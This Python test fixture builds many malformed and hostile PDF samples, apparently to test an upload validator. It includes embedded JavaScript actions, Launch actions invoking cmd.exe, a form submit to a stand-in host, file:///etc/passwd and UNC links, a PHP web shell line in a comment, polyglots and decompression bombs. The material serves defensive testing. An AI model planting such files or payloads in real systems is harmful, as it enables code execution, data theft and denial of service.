"""PDF: hostile ones, made by a library and by hand."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from portal.muestras import docx, pdf
from tests.archivos.base import MIB, Hostil, ceros


def _pdf(cambio: Callable[[pikepdf.Pdf], Any], **opciones: Any) -> Callable[[], bytes]:
    def hacer() -> bytes:
        with pikepdf.open(io.BytesIO(pdf())) as documento:
            cambio(documento)
            salida = io.BytesIO()
            documento.save(salida, **opciones)
            return salida.getvalue()

    return hacer


def pdf_a_mano(*objetos: bytes, raiz: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of `objetos` (bodies, numbered from 1) with a right table of contents."""
    salida, lugares = bytearray(b"%PDF-1.7\n" + extra), []
    for numero, objeto in enumerate(objetos, start=1):
        lugares.append(len(salida))
        salida += b"%d 0 obj\n" % numero + objeto + b"\nendobj\n"
    inicio = len(salida)
    salida += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objetos) + 1)
    salida += b"".join(b"%010d 00000 n \n" % lugar for lugar in lugares)
    return bytes(salida) + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objetos) + 1,
        raiz,
        inicio,
    )


CATALOGO, PAGINAS, PAGINA = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
)  # fmt: skip


def flujo(contenido: bytes, diccionario: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n" % (len(contenido), diccionario) + contenido + b"\nendstream"


def _con_contenido(contenido: Callable[[], bytes], diccionario: bytes) -> Callable[[], bytes]:
    pagina = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return lambda: pdf_a_mano(CATALOGO, PAGINAS, pagina, flujo(contenido(), diccionario))


def _accion(**campos: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, **campos)


def _js() -> Dictionary:
    return _accion(S=Name.JavaScript, JS=String("app.alert(1)"))


def _abrir(**campos: Any) -> Callable[[], bytes]:
    return _pdf(lambda d: d.Root.__setattr__("OpenAction", _accion(**campos)))


def _anotar(**campos: Any) -> Callable[[], bytes]:
    def cambio(d: pikepdf.Pdf) -> None:
        marca = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **campos)
        d.pages[0].obj.Annots = Array([d.make_indirect(marca)])

    return _pdf(cambio)


def _adjuntar(d: pikepdf.Pdf) -> None:
    d.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def _objstm_bomba() -> bytes:
    """Objects in a stream that inflates to 200 MB."""
    relleno = zlib.compressobj(9)
    cuerpo = b"1 0 2 32 3 70 " + CATALOGO.ljust(32) + PAGINAS.ljust(38) + PAGINA
    crudo = relleno.compress(cuerpo) + b"".join(relleno.compress(b" " * MIB) for _ in range(200)) + relleno.flush()
    return _con_objstm(flujo(crudo, b"/Type/ObjStm/N 3/First 14/Filter/FlateDecode"))


def _con_objstm(objstm: bytes) -> bytes:
    salida = bytearray(b"%PDF-1.7\n")
    lugar = len(salida)
    salida += b"4 0 obj\n" + objstm + b"\nendobj\n"
    inicio = len(salida)
    filas = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, lugar, 0), (1, inicio, 0)]
    tabla = b"".join(struct.pack(">BIH", *fila) for fila in filas)
    salida += b"5 0 obj\n" + flujo(tabla, b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R") + b"\nendobj\n"
    return bytes(salida) + b"startxref\n%d\n%%%%EOF\n" % inicio


def _xref_bomba() -> bytes:
    relleno = zlib.compressobj(9)
    crudo = b"".join(relleno.compress(b"\0" * MIB) for _ in range(300)) + relleno.flush()
    cuerpo = (
        b"5 0 obj\n" + flujo(crudo, b"/Type/XRef/Size 44000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode") + b"\nendobj\n"
    )
    return b"%PDF-1.7\n" + cuerpo + b"startxref\n9\n%%EOF\n"


def _paginas_hondas(hondura: int) -> bytes:
    nodos = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, hondura)]
    return pdf_a_mano(CATALOGO, *nodos, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def _zip_dentro() -> bytes:
    """A zip whose closing comment is the PDF's own end."""
    original = pdf()
    carga = io.BytesIO()
    with zipfile.ZipFile(carga, "w") as paquete:
        paquete.writestr("a.txt", "hola")
        paquete.comment = b"\n" + original[original.rfind(b"startxref") :]
    return original[: original.rfind(b"startxref")] + carga.getvalue()


PDF_HOSTILES: list[Hostil] = [
    ("js-al-abrir", _pdf(lambda d: d.Root.__setattr__("OpenAction", _js()))),
    ("js-por-nombre", _pdf(lambda d: d.Root.__setattr__("Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js()])))))),
    ("js-de-pagina", _pdf(lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=_js())))),
    ("js-de-documento-al-cerrar", _pdf(lambda d: d.Root.__setattr__("AA", Dictionary(WC=_js())))),
    ("js-de-enlace", _anotar(Subtype=Name.Link, A=_js())),
    ("js-de-campo", _pdf(lambda d: d.Root.__setattr__("AcroForm", Dictionary(Fields=Array([d.make_indirect(Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_js())))]))))),
    ("js-encadenado", _abrir(S=Name.GoTo, D=String("x"), Next=_js())),
    ("js-del-indice", _pdf(lambda d: d.Root.__setattr__("Outlines", Dictionary(First=d.make_indirect(Dictionary(Title=String("a"), A=_js())))))),
    ("js-en-flujo", _pdf(lambda d: d.Root.__setattr__("OpenAction", _accion(S=Name.JavaScript, JS=d.make_stream(b"app.alert(1)"))))),
    ("js-en-flujo-de-objetos", _pdf(lambda d: d.Root.__setattr__("OpenAction", d.make_indirect(_js())), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ("js-con-nombre-escapado", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>>>", PAGINAS, PAGINA)),
    ("js-suelto", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"<</S/JavaScript/JS(1)>>")),
    ("js-en-lista", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[[[<</S/JavaScript/JS<6170>>>]]]")),
    ("js-sin-tipo", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</JS(1)>>>>", PAGINAS, PAGINA)),
    ("ejecutar", _abrir(S=Name.Launch, F=String("calc.exe"))),
    ("ejecutar-windows", _abrir(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
    ("enviar-formulario", _abrir(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://malo.example")))),
    ("importar-datos", _abrir(S=Name.ImportData, F=String("x.fdf"))),
    ("ir-a-otro-archivo", _abrir(S=Name.GoToR, F=String("\\\\malo\\x.pdf"), D=Array([0, Name.Fit]))),
    ("ir-a-incrustado", _abrir(S=Name.GoToE, T=Dictionary(R=Name.C))),
    ("mostrar-multimedia", _abrir(S=Name.Rendition, OP=0)),
    ("uri-javascript", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("javascript:alert(1)")))),
    ("uri-javascript-mayusculas", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String(" JaVaScRiPt:alert(1)")))),
    ("uri-archivo", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("file:///etc/passwd")))),
    ("uri-unc", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("\\\\malo\\x")))),
    ("uri-data", _anotar(Subtype=Name.Link, A=_accion(S=Name.URI, URI=String("data:text/html,<script>alert(1)</script>")))),
    ("archivo-adjunto", _pdf(_adjuntar)),
    ("archivo-como-nota", _anotar(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec))),
    ("archivo-asociado", _pdf(lambda d: d.Root.__setattr__("AF", Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=d.make_stream(b"MZ")))])))),
    ("archivo-suelto", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"MZ", b"/Type/EmbeddedFile"))),
    ("cartera", _pdf(lambda d: d.Root.__setattr__("Collection", Dictionary(View=Name.D)))),
    ("xfa", _pdf(lambda d: d.Root.__setattr__("AcroForm", Dictionary(Fields=Array(), XFA=d.make_stream(b"<xdp/>"))))),
    ("richmedia", _anotar(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    ("pantalla", _anotar(Subtype=Name.Screen)),
    ("pelicula", _anotar(Subtype=Name.Movie, Movie=Dictionary())),
    ("sonido", _anotar(Subtype=Name.Sound)),
    ("3d", _anotar(Subtype=Name("/3D"))),
    ("postscript", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"quit", b"/Type/XObject/Subtype/PS"))),
    ("flujo-externo", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"", b"/F(http://malo.example/x)"))),
    ("con-clave", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="b"))),
    ("con-restricciones", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user=""))),
    ("con-clave-rc4", _pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="", R=3, aes=False, metadata=False))),
    ("sin-paginas", _pdf(lambda d: d.pages.__delitem__(0))),
    ("sin-arbol-de-paginas", lambda: pdf_a_mano(b"<</Type/Catalog>>", PAGINAS, PAGINA)),
    ("pagina-que-es-texto", lambda: pdf_a_mano(CATALOGO, PAGINAS, b"(hola)")),
    ("pagina-inexistente", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[9 0 R]/Count 1>>")),
    ("basura-delante", lambda: b"basura\n" + pdf()),
    ("html-delante", lambda: b"<html><script>alert(1)</script></html>" + pdf()),
    ("gif-delante", lambda: b"GIF89a" + pdf()),
    ("exe-delante", lambda: b"MZ\x90\0" + pdf()),
    ("zip-detras", lambda: pdf() + docx()),
    ("html-detras", lambda: pdf() + b"<script>alert(1)</script>"),
    ("exe-detras", lambda: pdf() + b"MZ" + b"\0" * 500),
    ("pdf-detras-roto", lambda: pdf() + b"%PDF-1.4 nada"),
    ("zip-dentro", _zip_dentro),
    ("html-en-comentario", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, extra=b"%<html><script>alert(1)</script>\n")),
    ("php-en-comentario", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, extra=b"%<?php system($_GET[0]); ?>\n")),
    ("cortado-a-la-mitad", lambda: pdf(paginas=5)[: len(pdf(paginas=5)) // 2]),
    ("cortado-al-final", lambda: pdf()[:-12]),
    ("solo-cabecera", lambda: b"%PDF-1.7\n"),
    ("cabecera-y-basura", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF"),
    ("indice-roto", lambda: pdf().replace(b"startxref\n", b"startxref\n9")),
    ("sin-indice", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"xref\n0", b"xxxx\n0")),
    ("indice-desmedido", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"xref\n0 4", b"xref\n0 4294967295")),
    ("indice-en-circulo", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA).replace(b"/Size 4", b"/Size 4/Prev 175")),
    ("bomba-de-contenido", _con_contenido(lambda: ceros(400 * MIB), b"/Filter/FlateDecode")),
    ("bomba-doble", _con_contenido(lambda: zlib.compress(ceros(400 * MIB)), b"/Filter[/FlateDecode/FlateDecode]")),
    ("bomba-runlength", _con_contenido(lambda: b"\x81\0" * (2 * MIB), b"/Filter/RunLengthDecode")),
    ("bomba-ascii85-flate", _con_contenido(lambda: ceros(200 * MIB).hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    ("bomba-en-muchos-flujos", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[flujo(ceros(50 * MIB), b"/Filter/FlateDecode")] * 20)),
    ("bomba-de-objetos-comprimidos", _objstm_bomba),
    ("bomba-en-el-indice", _xref_bomba),
    ("imagen-desmedida", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, flujo(b"x", b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"))),
    ("flate-roto", _con_contenido(lambda: b"esto no es deflate", b"/Filter/FlateDecode")),
    ("cien-mil-objetos", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[b"<<>>"] * 100_000)),
    ("lista-de-un-millon", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[" + b"0 " * 2_000_000 + b"]")),
    ("listas-anidadas", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"[" * 1_000_000 + b"]" * 1_000_000)),
    ("millon-de-listas", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, *[b"[" + b"[]" * 199_000 + b"]"] * 12)),
    ("diccionarios-anidados", lambda: pdf_a_mano(CATALOGO, PAGINAS, PAGINA, b"<</A" * 400_000 + b" 1" + b">>" * 400_000)),
    ("una-pagina-mil-veces", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>", PAGINA)),
    ("paginas-en-circulo", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[2 0 R]/Count 1>>", PAGINA)),
    ("paginas-muy-hondas", lambda: _paginas_hondas(50_000)),
    ("diez-mil-paginas", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[" + b"".join(b"%d 0 R " % n for n in range(3, 10_003)) + b"]/Count 10000>>", *[PAGINA] * 10_000)),
    ("cuenta-falsa", lambda: pdf_a_mano(CATALOGO, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", PAGINA)),
    ("clave-repetida", lambda: pdf_a_mano(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/OpenAction null>>", PAGINAS, PAGINA, b"<<>>")),
]  # fmt: skip
